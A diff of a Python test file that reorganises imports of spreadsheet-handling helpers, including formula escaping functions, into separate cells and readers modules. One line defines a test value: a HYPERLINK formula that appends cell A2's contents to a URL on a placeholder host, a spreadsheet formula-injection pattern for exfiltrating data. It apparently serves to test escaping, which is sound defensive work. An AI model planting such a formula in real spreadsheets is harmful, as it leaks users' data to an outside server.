@@ -32,14 +32,8 @@ from partners.resources import PartnerResource
 from partners.tests.factories import OrganisationFactory, PartnershipFactory
 from pole.env import env_bytes
 from pole.fiscal_years import FiscalYear
-from pole.spreadsheets.resources import (
-    SpreadsheetCSV,
-    SpreadsheetError,
-    SpreadsheetXLSX,
-    escape_formula,
-    read_dataset,
-    unescape_formula,
-)
+from pole.spreadsheets.cells import SpreadsheetError, escape_formula, unescape_formula
+from pole.spreadsheets.readers import SpreadsheetCSV, SpreadsheetXLSX, read_dataset
 from pole.tests.spreadsheet_helpers import csv_bytes, xlsx_bytes
 
 HYPERLINK = '=HYPERLINK("http://exemple.invalid/?d="&A2,"Voir")'
